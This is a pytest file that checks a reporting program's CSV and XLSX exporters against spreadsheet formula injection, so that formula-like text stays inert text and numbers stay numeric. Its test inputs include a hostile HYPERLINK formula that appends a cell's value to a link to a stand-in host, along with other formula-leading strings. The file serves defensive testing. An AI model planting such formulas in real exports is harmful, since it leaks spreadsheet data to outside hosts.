"""Texts that look like formulas leave the program as text: no formula cell in an XLSX,
no `=`-first field in a CSV, numbers still numbers (exports.cells, used by every writer)."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest

from bemoeizorg.domain.suppression import CountTable
from bemoeizorg.exports.cells import csv_row, csv_value, starts_like_formula
from bemoeizorg.exports.counts import Counts, Period
from bemoeizorg.exports.counts_export import Publication, csv_bytes, publish, xlsx_bytes

EVIL = '=HYPERLINK("http://x"&B3)'
STARTS = ["=1+1", "+31 6", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _publication(title: str, label: str, note: str) -> Publication:
    codes = ("GM0957", "GM0988")  # Roermond, Weert
    period = Period(date(2025, 1, 1), date(2025, 12, 31))
    values = {("GM0957", "a"): 12, ("GM0988", "a"): 7, ("GM0957", "b"): 9, ("GM0988", "b"): 30}
    tables = (
        CountTable("meldingen", title, (("a", label), ("b", "Gewoon")), codes, values, label, note),
        CountTable("geopend", "Geopend", (("jeugd", "Jeugd"),), codes, {("GM0957", "jeugd"): 6}),
    )
    return publish(Counts(period, codes, tables), 5)


def test_the_rule() -> None:
    for text in [*STARTS, EVIL]:
        assert starts_like_formula(text)
        assert csv_value(text) == "'" + text
    for text in ["Roermond", "<5", "x", "K1 2025", " =spatie eerst", ""]:
        assert not starts_like_formula(text)
        assert csv_value(text) == text
    assert csv_row([-3, 0, 2.5, None, "-3"]) == [-3, 0, 2.5, None, "'-3"]
    assert csv_value("a\x00b\x1fc") == "abc"  # nothing XML cannot hold


@pytest.mark.parametrize("start", [EVIL, *STARTS])
def test_no_formula_cell_in_the_xlsx(start: str) -> None:
    publication = _publication(start, start, start)
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(publication)))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    texts.append(cell.value)
                    if starts_like_formula(cell.value):
                        assert cell.quotePrefix, cell.coordinate
    # The text itself is kept, as text: the title, the column label, the total, the note.
    kept = start.replace("\r", "\n")  # XML reads a bare CR as a line end
    assert texts.count(kept) >= 3
    notes = [c.value for c in book["Toelichting"]["A"] if isinstance(c.value, str)]
    assert f"Meldingen: {kept}" in notes
    # Numbers stay numbers.
    sheet = book["Meldingen"]
    region = next(r for r in sheet.iter_rows(min_row=3) if r[0].value == "Noord- en Midden-Limburg")
    assert region[1].value is None  # no CBS code for the region
    assert [(c.data_type, c.value) for c in region[2:]] == [("n", 19), ("n", 39), ("n", 58)]


@pytest.mark.parametrize("start", [EVIL, *STARTS])
def test_no_formula_field_in_the_csv(start: str) -> None:
    publication = _publication(start, start, start)
    text = csv_bytes(publication).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    fields = [f for row in rows for f in row]
    assert not [f for f in fields if starts_like_formula(f)]
    assert "'" + start in fields
    region = [r for r in rows if r[4] == "Noord- en Midden-Limburg" and r[6] == "Gewoon"]
    when = ["2025", "2025-01-01", "2025-12-31"]
    assert region == [[*when, "'" + start, "Noord- en Midden-Limburg", "", "Gewoon", "39"]]
